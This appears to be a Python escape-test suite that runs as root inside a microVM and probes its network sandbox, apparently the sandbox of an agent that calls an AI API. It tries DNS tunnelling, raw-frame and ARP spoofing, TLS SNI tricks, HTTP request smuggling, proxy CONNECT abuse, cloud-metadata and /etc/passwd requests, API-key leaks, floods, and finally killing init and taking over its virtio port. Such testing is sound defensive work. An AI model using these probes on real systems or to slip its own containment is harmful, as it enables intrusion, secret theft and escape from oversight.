# SPDX-License-Identifier: LGPL-2.1-or-later
"""What root in a microVM does to get out. Runs inside the guest, which has nothing but python3 to offer for it.

Each attempt prints one line: `@@ ["GROUP", "NAME", RESULT, SECONDS]`. An attempt never raises: the error is its result.
"""

import errno
import json
import os
import random
import socket
import ssl
import struct
import sys
import time

GATEWAY, RESOLVER = "10.255.255.1", "10.255.255.1"
WWW, API, OTHER = "www.example.org", "api.anthropic.com", "other.example.net"
SENTINEL = os.environ.get("ANTHROPIC_API_KEY", "")
CA = os.environ.get("NODE_EXTRA_CA_CERTS")


def attempt(group, name, function, *args):
    since = time.monotonic()
    try:
        result = function(*args)
    except (OSError, ValueError, struct.error) as error:
        result = errno.errorcode.get(getattr(error, "errno", 0) or 0, "") if isinstance(error, OSError) else ""
        result = result or type(error).__name__
    print("@@ " + json.dumps([group, name, result, round(time.monotonic() - since, 2)]), flush=True)
    return result


# ---- names ----

def encode_name(name):
    return b"".join(bytes([len(label)]) + label.encode("latin-1") for label in name.split(".") if label) + b"\0"


def question(name, qtype=1, qclass=1, flags=0x0100, extra=b"", counts=(1, 0, 0, 0), ident=0x4242):
    return struct.pack("!HHHHHH", ident, flags, *counts) + encode_name(name) + struct.pack("!HH", qtype, qclass) + extra


def read_reply(data):
    """["rcode", [addresses]]"""
    rcode, answers = data[3] & 15, struct.unpack("!H", data[6:8])[0]
    addresses, at = [], 12
    for _ in range(struct.unpack("!H", data[4:6])[0]):
        while data[at]:
            at += data[at] + 1
        at += 5
    for _ in range(answers):
        while data[at] and data[at] < 0xc0:
            at += data[at] + 1
        at += 2 if data[at] >= 0xc0 else 1
        kind, _, _, size = struct.unpack("!HHIH", data[at:at + 10])
        if kind == 1:
            addresses.append(socket.inet_ntoa(data[at + 10:at + 14]))
        at += 10 + size
    return [rcode, addresses]


def udp(query, server=RESOLVER, port=53, timeout=1.0):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        s.connect((server, port))
        s.send(query)
        return read_reply(s.recv(4096))


def tcp_dns(query, server=RESOLVER, length=None):
    with socket.create_connection((server, 53), timeout=2) as s:
        s.sendall(struct.pack("!H", len(query) if length is None else length) + query)
        data = s.recv(4096)
        return read_reply(data[2:]) if len(data) > 2 else "closed"


def address_of(name):
    return udp(question(name), timeout=5)[1][0]


def names():
    payload = "s3cret" * 9
    attempt("dns", "control", udp, question(WWW))
    attempt("dns", "control tcp", tcp_dns, question(WWW))
    attempt("dns", "control again", udp, question(WWW))
    for name in (payload + ".tunnel.example.com", payload + "." + WWW, payload + "." + API, "example.org", "org", "",
                 OTHER, "www.example.org.other.example.net", "www.example.org\0.other.example.net", "www\\.example.org",
                 "xn--www-.example.org", "*.example.org", "localhost", "metadata.google.internal", "169.254.169.254"):
        attempt("dns", "name " + name[-60:], udp, question(name))
        attempt("dns", "tcp name " + name[-60:], tcp_dns, question(name), "8.8.8.8")
    for server in ("203.0.113.53", "1.1.1.1", "127.0.0.53", "255.255.255.255", "224.0.0.251"):
        attempt("dns", "other server " + server, udp, question("tunnel.example.com"), server)
    for kind in (16, 10, 12, 33, 35, 48, 249, 251, 252, 255):
        attempt("dns", "type %d" % kind, udp, question(payload + ".example.com", kind))
    attempt("dns", "chaos", udp, question("version.bind", 16, 3))
    for opcode in (1, 2, 4, 5, 15):
        attempt("dns", "opcode %d" % opcode, udp, question("tunnel.example.com", flags=opcode << 11))
    option = b"\0" + struct.pack("!HHIH", 41, 4096, 0, 64) + struct.pack("!HH", 65001, 60) + b"s3cret" * 10
    attempt("dns", "edns payload", udp, question("tunnel.example.com", extra=option, counts=(1, 0, 0, 1)))
    second = encode_name("tunnel.example.com") + struct.pack("!HH", 1, 1)
    attempt("dns", "two questions", udp, question(WWW, extra=second, counts=(2, 0, 0, 0)))
    for port in (5353, 853, 54, 67, 123, 443):
        attempt("udp", "port %d" % port, udp, question(WWW), GATEWAY, port)
    attempt("udp", "elsewhere", udp, question(WWW), "203.0.113.12", 443)
    for name, data in (("loop", struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1"), ("short", b"\0"),
                       ("a reply", question(WWW, flags=0x8180)), ("counts", question(WWW, counts=(0xffff,) * 4)),
                       ("long", question(WWW) + b"x" * 8000), ("label", b"\0" * 12 + b"\x3f" + b"a" * 20)):
        attempt("malformed dns", name, udp, data)
    attempt("malformed dns", "tcp length", tcp_dns, question(WWW), RESOLVER, 0xffff)
    attempt("malformed dns", "tcp nothing", tcp_dns, b"", RESOLVER, 0)
    attempt("dns", "control at the end", udp, question(WWW))


# ---- addresses ----

def connect(address, port, family=socket.AF_INET, **options):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        for option, value in options.values():
            s.setsockopt(socket.IPPROTO_IP, option, value)
        s.connect((address, port))
        s.settimeout(1.5)
        try:
            s.sendall(b"GET / HTTP/1.1\r\nHost: other.example.net\r\n\r\n")
            return s.recv(300).decode("latin-1") or "closed"
        except TimeoutError:
            return "connected"


def addresses():
    www = address_of(WWW)
    attempt("tcp", "control", connect, www, 9000)
    for port in (22, 25, 53, 80, 111, 443, 3128, 15001, 65535):
        attempt("tcp", "gateway %d" % port, connect, GATEWAY, port)
    first = struct.unpack("!I", socket.inet_aton(www))[0]
    for step in (-1, 7, 1000, 60000):
        attempt("tcp", "synthetic %+d" % step, connect, socket.inet_ntoa(struct.pack("!I", first + step)), 443)
    for port in (22, 81, 15001, 3128, 8443, 9001):
        attempt("tcp", "unlisted port %d" % port, connect, www, port)
    for address in ("203.0.113.12", "203.0.113.13", "203.0.113.1", "169.254.169.254", "10.255.255.3", "10.0.0.1", "192.168.0.1",
                    "1.1.1.1", "255.255.255.255", "224.0.0.1", "240.0.0.1"):
        attempt("tcp", "literal " + address, connect, address, 80)
    route = bytes([131, 11, 4]) + socket.inet_aton("203.0.113.13") + socket.inet_aton("203.0.113.12") + b"\0"
    attempt("tcp", "source route", lambda: connect("203.0.113.13", 80, o=(socket.IP_OPTIONS, route)))
    attempt("tcp", "ipv6", connect, "2001:db8::1", 443, socket.AF_INET6)
    attempt("tcp", "ipv6 link", connect, "fe80::1%eth0", 443, socket.AF_INET6)
    attempt("tcp", "ipv6 mapped", connect, "::ffff:203.0.113.13", 80, socket.AF_INET6)
    return www


# ---- frames ----

ME, HERE = b"\x02\0\0\0\0\x02", "10.255.255.2"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def ip(protocol, payload, src=HERE, dst=GATEWAY, options=b"", fragment=0, ident=1, ttl=64):
    head = struct.pack("!BBHHHBBH", 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), ident, fragment, ttl, protocol, 0)
    head += socket.inet_aton(src) + socket.inet_aton(dst) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp_in(data, sport=40000, dport=53):
    return struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data


def arp(op, sender_mac, sender, target_mac, target):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + sender_mac + socket.inet_aton(sender) + target_mac + socket.inet_aton(target)


class Wire:
    """Frames as they are, past the guest's own network code."""

    def __init__(self):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.s.bind(("eth0", 3))
        self.gateway = self.ask(b"\xff" * 6, 0x0806, arp(1, ME, HERE, b"\0" * 6, GATEWAY),
                                lambda f: f[12:14] == b"\x08\x06" and f[20:22] == b"\0\2" and f[22:28])

    def ask(self, dst, kind, payload, wanted, src=ME, timeout=0.2):
        """What `wanted` makes of the first frame that it likes, or None."""
        self.s.settimeout(0)
        try:
            while self.s.recv(2048):
                pass
        except BlockingIOError:
            pass
        self.s.send(dst + src + struct.pack("!H", kind) + payload)
        end = time.monotonic() + timeout
        while (left := end - time.monotonic()) > 0:
            self.s.settimeout(left)
            try:
                frame, address = self.s.recvfrom(2048)
            except TimeoutError:
                break
            if address[2] != socket.PACKET_OUTGOING and (found := wanted(frame)):
                return found
        return None


def dns_reply(ident):
    """A predicate: the answers of the reply with that id, whoever it is for."""
    def find(frame):
        if frame[12:14] != b"\x08\0" or frame[23] != 17:
            return None
        data = frame[14 + (frame[14] & 15) * 4 + 8:]
        return read_reply(data) if struct.unpack("!H", data[:2])[0] == ident else None
    return find


def any_reply(frame):
    """Anything but what only says no: an ICMP error, a reset, or ARP for ourselves."""
    if frame[12:14] == b"\x08\0":
        head = 14 + (frame[14] & 15) * 4
        if frame[23] == 1 and frame[head] in (3, 11, 12):
            return None
        if frame[23] == 6 and frame[head + 13] & 4:
            return None
    elif frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\1":
        return None
    return frame.hex()


def frames():
    wire = Wire()
    gw, everyone = wire.gateway or b"\xff" * 6, b"\xff" * 6

    def query(name, ident, **how):
        return ip(17, udp_in(question(name, ident=ident)), **how)

    attempt("frame", "control", lambda: wire.ask(gw, 0x0800, query(WWW, 1), dns_reply(1), timeout=3))
    for n, source in enumerate((GATEWAY, "127.0.0.1", "203.0.113.1", "203.0.113.53", "8.8.8.8", "0.0.0.0", "255.255.255.255", "10.255.255.3")):
        attempt("frame", "source " + source, lambda: wire.ask(gw, 0x0800, query(WWW, 100 + n, src=source), dns_reply(100 + n)))
    attempt("frame", "mac", lambda: wire.ask(gw, 0x0800, query(WWW, 200), dns_reply(200), b"\x02\0\0\0\0\x77"))
    attempt("frame", "arp neighbour", lambda: wire.ask(everyone, 0x0806, arp(1, ME, HERE, b"\0" * 6, "10.255.255.3"), any_reply))
    attempt("frame", "arp uplink", lambda: wire.ask(everyone, 0x0806, arp(1, ME, HERE, b"\0" * 6, "203.0.113.1"), any_reply))
    attempt("frame", "arp as gateway", lambda: wire.ask(everyone, 0x0806, arp(2, ME, GATEWAY, everyone, GATEWAY), any_reply))
    for name, dst in (("gateway", GATEWAY), ("origin", "203.0.113.12"), ("metadata", "169.254.169.254"), ("everyone", "255.255.255.255")):
        echo = b"\x08\0" + struct.pack("!H", checksum(b"\x08\0\0\0\0\1\0\1s3cret")) + b"\0\1\0\1s3cret"
        attempt("frame", "icmp " + name, lambda: wire.ask(gw, 0x0800, ip(1, echo, dst=dst), any_reply))
    syn = struct.pack("!HHIIBBHHH", 40001, 80, 1, 0, 0x50, 2, 1024, 0, 0)
    inner = ip(6, syn, dst="203.0.113.13")
    for name, protocol, payload in (("ipip", 4, inner), ("gre", 47, b"\0\0\x08\0" + inner), ("sctp", 132, syn), ("esp", 50, syn), ("igmp", 2, syn)):
        attempt("frame", "protocol " + name, lambda: wire.ask(gw, 0x0800, ip(protocol, payload), any_reply, timeout=0.1))
    route = bytes([131, 7, 4]) + socket.inet_aton("203.0.113.13") + b"\0"
    attempt("frame", "loose source route", lambda: wire.ask(gw, 0x0800, ip(17, udp_in(question(WWW, ident=300)), options=route), dns_reply(300)))
    attempt("frame", "strict source route", lambda: wire.ask(
        gw, 0x0800, ip(17, udp_in(question(WWW, ident=301)), options=b"\x89" + route[1:]), dns_reply(301)))
    whole = udp_in(question("tunnel.example.com", ident=302))
    wire.ask(gw, 0x0800, ip(17, whole[:24], fragment=0x2000, ident=9), lambda f: False, timeout=0.05)
    attempt("frame", "fragments", lambda: wire.ask(gw, 0x0800, ip(17, whole[24:], fragment=3, ident=9), dns_reply(302)))
    for n in range(300):                       # first pieces of what never comes, and pieces that overlap
        wire.s.send(gw + ME + b"\x08\0" + ip(17, whole[:24], fragment=0x2000, ident=100 + n))
        wire.s.send(gw + ME + b"\x08\0" + ip(17, b"\0" * 65 * 8, fragment=0x2000 | 2, ident=100 + n))
    six = struct.pack("!IHBB", 6 << 28, 8, 58, 255) + bytes.fromhex("fe80" + "0" * 27 + "2") + bytes.fromhex("ff02" + "0" * 27 + "1")
    attempt("frame", "ipv6 echo", lambda: wire.ask(bytes.fromhex("333300000001"), 0x86dd, six + b"\x80\0\0\0\0\1\0\1", any_reply))
    attempt("frame", "router advertisement", lambda: wire.ask(bytes.fromhex("333300000001"), 0x86dd, six + b"\x86\0\0\0\x40\0\x07\x08", any_reply))
    attempt("frame", "vlan", lambda: wire.ask(gw, 0x8100, b"\0\x05\x08\0" + query(WWW, 303), dns_reply(303)))
    attempt("frame", "lldp", lambda: wire.ask(bytes.fromhex("0180c200000e"), 0x88cc, b"\0" * 46, any_reply, timeout=0.1))
    attempt("frame", "bpdu", lambda: wire.ask(bytes.fromhex("0180c2000000"), 38, b"\x42\x42\3" + b"\0" * 35, any_reply, timeout=0.1))
    attempt("frame", "dhcp", lambda: wire.ask(everyone, 0x0800, ip(17, udp_in(b"\1\1\6\0" + b"\0" * 296, 68, 67), "0.0.0.0", "255.255.255.255"), any_reply))
    for n in range(2000):                      # whatever comes to mind
        wire.s.send(gw + ME + random.choice((b"\x08\0", b"\x08\x06", b"\x86\xdd")) + random.randbytes(random.randrange(1, 200)))
    attempt("frame", "control at the end", lambda: wire.ask(gw, 0x0800, query(WWW, 2), dns_reply(2), timeout=3))


# ---- TLS ----

def client_hello(name, alpn=()):
    context = ssl.create_default_context(cafile=CA)
    if alpn:
        context.set_alpn_protocols(alpn)
    if name is None:
        context.check_hostname = False
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(into, out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def with_names(hello, names):
    """The same ClientHello (one record) with another list in its server_name extension."""
    body = hello[9:]
    at = 34
    at += 1 + body[at]
    at += 2 + struct.unpack("!H", body[at:at + 2])[0]
    at += 1 + body[at]
    rest, extensions = body[at + 2:], b""
    while rest:
        kind, size = struct.unpack("!HH", rest[:4])
        extensions += b"" if kind == 0 else rest[:4 + size]
        rest = rest[4 + size:]
    for group in names:
        entries = b"".join(struct.pack("!BH", kind, len(n)) + n for kind, n in group)
        extensions = struct.pack("!HHH", 0, len(entries) + 2, len(entries)) + entries + extensions
    body = body[:at] + struct.pack("!H", len(extensions)) + extensions
    return record(b"\1" + struct.pack("!I", len(body))[1:] + body)


def record(data, kind=22):
    return struct.pack("!BHH", kind, 0x0301, len(data)) + data


def records(hello, size):
    """The same handshake message in records of that size."""
    return b"".join(record(hello[5:][i:i + size]) for i in range(0, len(hello) - 5, size))


def hello_to(address, data, piece=None, pause=0.0):
    """What kind of record comes back: "22" is a ServerHello, so the connection got to a server."""
    with socket.create_connection((address, 443), timeout=4) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(0, len(data), piece or len(data)):
            s.sendall(data[i:i + (piece or len(data))])
            time.sleep(pause)
        got = s.recv(5)
        return str(got[0]) if got else "closed"


def greetings(www):
    api, hello = address_of(API), client_hello(WWW)
    attempt("tls", "control", hello_to, www, hello)
    attempt("tls control", "in pieces", hello_to, www, hello, 20, 0.001)
    attempt("tls control", "records of 20", hello_to, www, records(hello, 20))
    attempt("tls control", "records of 1", hello_to, www, records(hello, 1))
    attempt("tls control", "padded to 12000", hello_to, www, client_hello(WWW, ["x" * 250] * 47))
    other = client_hello(OTHER)
    for name, data in (
            ("other name", other), ("other in records of 1", records(other, 1)),
            ("padded other", client_hello(OTHER, ["x" * 250] * 47)),
            ("no name", client_hello(None)),
            ("two names", with_names(hello, [[(0, WWW.encode()), (0, OTHER.encode())]])),
            ("two names, other first", with_names(hello, [[(0, OTHER.encode()), (0, WWW.encode())]])),
            ("two extensions", with_names(hello, [[(0, WWW.encode())], [(0, OTHER.encode())]])),
            ("two extensions, other first", with_names(hello, [[(0, OTHER.encode())], [(0, WWW.encode())]])),
            ("a name of another type first", with_names(hello, [[(7, OTHER.encode()), (0, OTHER.encode())]])),
            ("nul", with_names(hello, [[(0, WWW.encode() + b"\0." + OTHER.encode())]])),
            ("nul at the end", with_names(hello, [[(0, WWW.encode() + b"\0")]])),
            ("empty", with_names(hello, [[(0, b"")]])), ("no entries", with_names(hello, [[]])),
            ("blank", with_names(hello, [[(0, WWW.encode() + b" ")]])),
            ("address", with_names(hello, [[(0, b"203.0.113.13")]])),
            ("below", with_names(hello, [[(0, b"x." + WWW.encode())]])),
            ("long", with_names(hello, [[(0, b"a" * 12000)]])),
            ("the inspected host's", client_hello(API)),
            ("lying length", hello[:6] + b"\xff\xff\xff" + hello[9:]),
            ("huge record", b"\x16\3\1\xff\xff" + hello[5:]),
            ("empty records", b"\x16\3\1\0\0" * 2000 + hello),
            ("alert first", record(b"\1\0", 21) + hello),
            ("early data first", record(b"x" * 100, 23) + hello),
            ("sslv2", b"\x80\x2e\1\3\1" + b"\0" * 43),
            ("endless", record(b"\1\0\xff\xff" + b"x" * 16000) + record(b"x" * 16000) * 8)):
        attempt("tls", name, hello_to, www, data)
    attempt("tls", "name of a passed host at the inspected", hello_to, api, hello)
    attempt("tls", "other at the inspected", hello_to, api, other)
    attempt("tls", "no name at the inspected", hello_to, api, client_hello(None))
    return api


# ---- HTTP ----

def exchange(address, port, data, tls=None, timeout=2.5):
    """All that comes back."""
    with socket.create_connection((address, port), timeout=timeout) as raw:
        s = raw
        if tls:
            s = ssl.create_default_context(cafile=CA).wrap_socket(raw, server_hostname=tls)
        s.sendall(data)
        got = b""
        try:
            while len(got) < 65536 and (piece := s.recv(65536)):
                got += piece
        except (TimeoutError, ConnectionError):
            pass
        return got[:1500].decode("latin-1") or "closed"


def smuggle(www):
    def head(line="GET / HTTP/1.1", host="Host: " + WWW, more="", body=b""):
        return (line + "\r\n" + host + "\r\n" + more + "Connection: close\r\n\r\n").encode("latin-1") + body
    attempt("http", "control", exchange, www, 80, head())
    inner = b"GET /smuggled HTTP/1.1\r\nHost: other.example.net\r\n\r\n"
    for name, data in (
            ("other host", head(host="Host: " + OTHER)), ("no host", b"GET / HTTP/1.1\r\n\r\n"),
            ("two hosts", head(host="Host: " + WWW + "\r\nHost: " + OTHER)),
            ("two hosts, other first", head(host="Host: " + OTHER + "\r\nHost: " + WWW)),
            ("host list", head(host="Host: " + WWW + ", " + OTHER)),
            ("host with blank", head(host="Host : " + OTHER + "\r\nHost: " + WWW)),
            ("host folded", head(host="Host: " + WWW + "\r\n " + OTHER)),
            ("host port", head(host="Host: " + WWW + ":81")), ("host userinfo", head(host="Host: " + WWW + "@" + OTHER)),
            ("host nul", head(host="Host: " + WWW + "\0" + OTHER)), ("host bare cr", head(host="Host: " + WWW + "\rHost: " + OTHER)),
            ("absolute other", head("GET http://other.example.net/ HTTP/1.1")),
            ("absolute userinfo", head("GET http://www.example.org@other.example.net/ HTTP/1.1")),
            ("absolute password", head("GET http://www.example.org:80@other.example.net/ HTTP/1.1")),
            ("absolute backslash", head("GET http://other.example.net\\@www.example.org/ HTTP/1.1")),
            ("connect", head("CONNECT other.example.net:443 HTTP/1.1", "Host: other.example.net:443")),
            ("cl and te", head("POST /echo HTTP/1.1", more="Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", body=b"0\r\n\r\n" + inner)),
            ("two lengths", head("POST /echo HTTP/1.1", more="Content-Length: 0\r\nContent-Length: %d\r\n" % len(inner), body=inner)),
            ("te odd", head("POST /echo HTTP/1.1", more="Transfer-Encoding: xchunked\r\n", body=b"0\r\n\r\n" + inner)),
            ("te twice", head("POST /echo HTTP/1.1", more="Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", body=b"0\r\n\r\n" + inner)),
            ("te tab", head("POST /echo HTTP/1.1", more="Transfer-Encoding:\x0bchunked\r\n", body=b"0\r\n\r\n" + inner)),
            ("length sign", head("POST /echo HTTP/1.1", more="Content-Length: +0\r\n", body=inner)),
            ("length overflow", head("POST /echo HTTP/1.1", more="Content-Length: 18446744073709551616\r\n", body=inner)),
            ("chunk overflow", head("POST /echo HTTP/1.1", more="Transfer-Encoding: chunked\r\n", body=b"10000000000000000\r\n" + inner)),
            ("pipelined other", b"GET / HTTP/1.1\r\nHost: www.example.org\r\n\r\n" + inner),
            ("upgrade", b"GET / HTTP/1.1\r\nHost: www.example.org\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"),
            ("pipelined absolute", b"GET / HTTP/1.1\r\nHost: www.example.org\r\n\r\n" + head("GET http://other.example.net/ HTTP/1.1")),
            ("preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 9), ("http/0.9", b"GET /\r\n\r\n"),
            ("bare lf", b"GET / HTTP/1.1\nHost: www.example.org\nHost: other.example.net\n\n"),
            ("huge head", head(more="X: " + "y" * 200000 + "\r\n")), ("many fields", head(more="X: y\r\n" * 5000)),
            ("another protocol", b"SSH-2.0-OpenSSH_9.9\r\n")):
        attempt("http", name, exchange, www, 80, data)


def explicit_proxy():
    def ask(line, host=None, more=b""):
        return exchange(GATEWAY, 3128, (line + " HTTP/1.1\r\nHost: " + (host or WWW) + "\r\nConnection: close\r\n\r\n").encode("latin-1") + more, timeout=1.5)
    attempt("proxy", "control", ask, "GET http://www.example.org/", WWW)
    attempt("proxy", "control connect", ask, "CONNECT www.example.org:443", "www.example.org:443")
    for target in ("other.example.net:443", "203.0.113.12:443", "203.0.113.13:443", "169.254.169.254:80", "www.example.org:22", "[::1]:443",
                   "[::ffff:203.0.113.13]:443", "www.example.org:443@other.example.net:443", "www.example.org@other.example.net:443",
                   "www.example.org:65979", "www.example.org:-1", "www.example.org:", "www.example.org", ":443", "", "localhost:443",
                   "127.0.0.1:3128", "2130706433:80", "0x7f000001:80", "10.255.255.1:15001", "www.example.org\0.other.example.net:443",
                   "www.example.org%00.other.example.net:443", "//other.example.net:443", "http://other.example.net/", "a" * 70000 + ":443"):
        attempt("proxy", "connect " + target[:50], ask, "CONNECT " + target, target)
    for line in ("GET http://other.example.net/", "GET http://www.example.org@other.example.net/", "GET http://other.example.net\\@www.example.org/",
                 "GET http://www.example.org:22/", "GET http://169.254.169.254/latest/meta-data/", "GET https://other.example.net/", "GET file:///etc/passwd",
                 "GET ftp://www.example.org/", "GET /", "OPTIONS *", "TRACE http://other.example.net/", "PRI *", "GET http:///", "GET http://[::1]/",
                 "GET http://www.example.org#@other.example.net/", "GET http://other.example.net/?http://www.example.org/"):
        attempt("proxy", line, ask, line)
    attempt("proxy", "other host line", ask, "GET http://www.example.org/", OTHER)
    tunnel = client_hello(OTHER)
    attempt("proxy", "other inside of connect", ask, "CONNECT www.example.org:443", "www.example.org:443", tunnel)


# ---- the key ----

def key(api):
    def ask(target="/v1/reflect", method="GET", host=API, fields=("x-api-key: " + SENTINEL,), body=b"", version="1.1", more=b""):
        lines = ["%s %s HTTP/%s" % (method, target, version), "Host: " + host, *fields, "Connection: close", "", ""]
        return exchange(api, 443, "\r\n".join(lines).encode("latin-1") + body + more, API, 6)
    mine = "x-api-key: " + SENTINEL
    attempt("key", "control", ask)
    attempt("key", "control bearer", lambda: ask(fields=("Authorization: Bearer " + SENTINEL,)))
    for name, fields in (("range %d" % at, (mine, "Range: bytes=%d-%d" % (at, at + 29))) for at in range(60, 180, 30)):
        attempt("key", name, lambda: ask(fields=fields))
    for name, how in (
            ("head", {"method": "HEAD"}), ("trace", {"method": "TRACE"}), ("options", {"method": "OPTIONS"}), ("put", {"method": "PUT"}),
            ("override", {"fields": (mine, "X-HTTP-Method-Override: TRACE", "Max-Forwards: 0")}), ("http/1.0", {"version": "1.0"}),
            ("gzip", {"fields": (mine, "Accept-Encoding: gzip", "TE: gzip, trailers")}),
            ("dropped by connection", {"fields": (mine, "Connection: x-api-key")}),
            ("upgrade", {"fields": (mine, "Upgrade: websocket", "Connection: upgrade")}),
            ("expect", {"fields": (mine, "Expect: 100-continue")}),
            ("trailer", {"method": "POST", "target": "/v1/messages", "fields": ("Transfer-Encoding: chunked", "Trailer: x-api-key"),
                         "body": b"2\r\n{}\r\n0\r\nx-api-key: " + SENTINEL.encode() + b"\r\n\r\n"}),
            ("chunk extension", {"method": "POST", "target": "/v1/messages", "fields": (mine, "Transfer-Encoding: chunked"),
                                 "body": b"2;x=" + b"y" * 5000 + b"\r\n{}\r\n0\r\n\r\n"}),
            ("host", {"host": "www.example.org"}), ("absolute", {"target": "https://other.example.net/v1/reflect"}),
            ("two hosts", {"host": API + "\r\nHost: www.example.org"}),
            ("path", {"target": "/reflect"}), ("dots", {"target": "/v1/../reflect"}), ("encoded dots", {"target": "/v1/%2e%2e/reflect"}),
            ("slash", {"target": "//other.example.net/v1/"}), ("in the path", {"target": "/v1/" + SENTINEL}), ("in the query", {"target": "/v1/?k=" + SENTINEL}),
            ("in another field", {"fields": (mine, "X-Copy: " + SENTINEL)}), ("in the host", {"host": SENTINEL[:60] + "." + API}),
            ("twice", {"fields": (mine, mine)}), ("both places", {"fields": (mine, "Authorization: Bearer " + SENTINEL)}),
            ("as a name", {"fields": (SENTINEL + ": x",)}), ("with a tail", {"fields": (mine + "x",)}), ("folded", {"fields": (mine, " folded")}),
            ("pipelined", {"more": b"GET /v1/reflect HTTP/1.1\r\nHost: other.example.net\r\n\r\n"}),
            ("cl and te", {"method": "POST", "fields": (mine, "Content-Length: 3", "Transfer-Encoding: chunked"), "body": b"0\r\n\r\n"})):
        attempt("key", name, lambda: ask(**how))
    attempt("key", "control at the end", ask)


# ---- too much ----

def flood(www):
    def many_connections(address, port, count):
        held, failed = [], 0
        for _ in range(count):
            s = socket.socket()
            s.settimeout(2)
            try:
                s.connect((address, port))
                held.append(s)
            except OSError:
                failed += 1
                s.close()
                if failed > 50:
                    break
        for s in held:
            s.close()
        return [len(held), failed]

    def many_queries(count):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect((RESOLVER, 53))
            s.setblocking(False)
            end = time.monotonic() + 3
            for n in range(count):
                try:
                    s.send(question("%d.tunnel.example.com" % n, ident=n & 0xffff))
                except OSError:
                    pass
                if time.monotonic() > end:
                    return n
        return count

    import resource
    resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
    attempt("flood", "connections", many_connections, www, 443, 300)
    attempt("flood", "connections to the proxy", many_connections, GATEWAY, 3128, 300)
    attempt("flood", "connections to nothing", many_connections, "203.0.113.13", 443, 500)
    attempt("flood", "queries", many_queries, 100000)
    # what was asked in vain has to be worked off first
    def recovered():
        for _ in range(40):
            result = exchange(www, 80, b"GET / HTTP/1.1\r\nHost: www.example.org\r\nConnection: close\r\n\r\n")
            if result.startswith("HTTP/1.1 200 "):
                break
            time.sleep(0.5)
        return result
    attempt("flood", "control", recovered)


# ---- the channel ----

def channel():
    """The last act: frames of our own, beside those of the init."""
    attempt("channel", "kill init", lambda: os.kill(1, 9))
    port = next("/dev/" + name for name in os.listdir("/dev") if name.startswith("vport"))
    attempt("channel", "open", lambda: os.open(port, os.O_RDWR))
    attempt("channel", "open again", lambda: os.open(next("/proc/1/fd/" + n for n in os.listdir("/proc/1/fd") if os.readlink("/proc/1/fd/" + n) == port), os.O_RDWR))
    pidfd = os.pidfd_open(1)
    libc = __import__("ctypes").CDLL(None, use_errno=True)
    for n in os.listdir("/proc/1/fd"):
        try:
            if os.readlink("/proc/1/fd/" + n) == port:
                fd = libc.syscall(438, pidfd, int(n), 0)
                print("@@ " + json.dumps(["channel", "taken", fd >= 0, 0]), flush=True)
                time.sleep(1)
                os.write(fd, b"\xff" * 4096)
        except OSError:
            pass
    time.sleep(20)                             # the run has been ended before that


def main():
    names()
    www = addresses()
    frames()
    api = greetings(www)
    smuggle(www)
    explicit_proxy()
    key(api)
    flood(www)
    print("x" * (4 << 20))
    attempt("end", "control", udp, question(WWW))
    sys.stdout.flush()
    channel()


main()
